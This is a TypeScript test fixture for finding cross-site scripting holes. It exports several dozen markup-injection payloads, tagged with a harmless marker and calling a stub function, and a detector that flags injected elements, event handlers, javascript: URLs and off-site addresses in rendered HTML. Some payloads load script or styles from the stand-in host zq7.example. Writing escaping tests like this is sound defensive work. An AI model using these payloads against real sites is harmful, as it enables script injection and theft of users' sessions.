/**
 * Payloads: texts that would become markup or script where a page forgot to escape them. `zq7` marks everything they
 * would bring along; calling `zq7()` is what a script of theirs would do.
 */
import { tagsOf } from '#test/markup'

export const MARK = 'zq7'

export const PAYLOADS: readonly string[] = [
  '<script>zq7()</script>',
  '<script src=//zq7.example/x.js></script>',
  '</title><script>zq7()</script>',
  '</textarea><script>zq7()</script>',
  '</script><script>zq7()</script>',
  '--><script>zq7()</script><!--',
  '<img src=x zq7 onerror=zq7()>',
  '<img src="x" zq7="1" onerror="zq7()">',
  '<IMG zq7 """><SCRIPT>zq7()</SCRIPT>">',
  '<svg zq7 onload=zq7()>',
  '<svg/zq7/onload=zq7()>',
  '<svg><script zq7>zq7()</script></svg>',
  '<svg><animate zq7 onbegin=zq7() attributeName=x dur=1s>',
  '<math><mtext></table><mglyph><style><img zq7 src onerror=zq7()>',
  '<body zq7 onload=zq7()>',
  '<iframe zq7 srcdoc="<script>parent.zq7()</script>"></iframe>',
  '<iframe zq7 src="javascript:parent.zq7()"></iframe>',
  '<object zq7 data="javascript:zq7()"></object>',
  '<embed zq7 src="javascript:zq7()">',
  '<a zq7 href="javascript:zq7()">bấm</a>',
  '<a zq7 href="&#106;avascript:zq7()">bấm</a>',
  '<form zq7 action="//zq7.example"><button>gửi</button></form>',
  '<input zq7 autofocus onfocus=zq7()>',
  '<details zq7 open ontoggle=zq7()>',
  '<video zq7><source onerror=zq7()></video>',
  '<audio zq7 src=x onerror=zq7()>',
  '<marquee zq7 onstart=zq7()>',
  '<base zq7 href="//zq7.example/">',
  '<meta zq7 http-equiv="refresh" content="0;url=//zq7.example">',
  '<link zq7 rel="stylesheet" href="//zq7.example/x.css">',
  '<style zq7>*{background:url(//zq7.example)}</style>',
  '<x-zq7 contenteditable onblur=zq7() autofocus tabindex=1>',
  '" zq7=1 autofocus onfocus="zq7()',
  "' zq7=1 autofocus onfocus='zq7()",
  '"><img zq7 src=x onerror=zq7()>',
  "'><img zq7 src=x onerror=zq7()>",
  '` zq7=1 onmouseover=zq7() x=`',
  'javascript:zq7()//',
  '{{constructor.constructor("zq7()")()}}#{zq7()}<%= zq7() %>',
  '\u003cimg zq7 src=x onerror=zq7()\u003e＜script＞zq7()＜/script＞',
  '<scr<script>ipt>zq7()</scr</script>ipt>',
  '&lt;script&gt;zq7()&lt;/script&gt;&#60;img zq7 onerror=zq7()&#62;',
]

/** All of them in one text, for fields that are stored once. */
export const EVERYTHING = PAYLOADS.join(' ')

const ADDRESSES = new Set(['href', 'src', 'action', 'formaction', 'data', 'poster', 'srcdoc'])

/** Everything in a page that no page of ours has: marked markup, inline script and style, addresses elsewhere. */
export function foreignMarkup(html: string): string[] {
  const found: string[] = []
  for (const { name, attrs, text } of tagsOf(html)) {
    const all = `<${name} ${[...attrs.keys()].join(' ')}>`
    if (name.includes(MARK)) found.push(`element ${all}`)
    if (name === 'script' && text.trim() !== '') found.push(`inline script ${text.slice(0, 60)}`)
    if (/^(style|iframe|object|embed|base|math|marquee|frame|applet)$/.test(name))
      found.push(`element ${all}`)
    for (const [key, value] of attrs) {
      if (key.includes(MARK) || /^on|^style$|^srcdoc$|^formaction$/.test(key))
        found.push(`attribute ${key} of ${all}`)
      if (!ADDRESSES.has(key)) continue
      const plain = value.replace(/[\u0000-\u0020]/g, '').toLowerCase()
      if (/^(javascript|vbscript|data|blob):/.test(plain)) found.push(`${key}="${value}"`)
      if (/^(\/\/|\\|https?:)/.test(plain)) found.push(`${key}="${value}" leads elsewhere`)
    }
  }
  return found
}
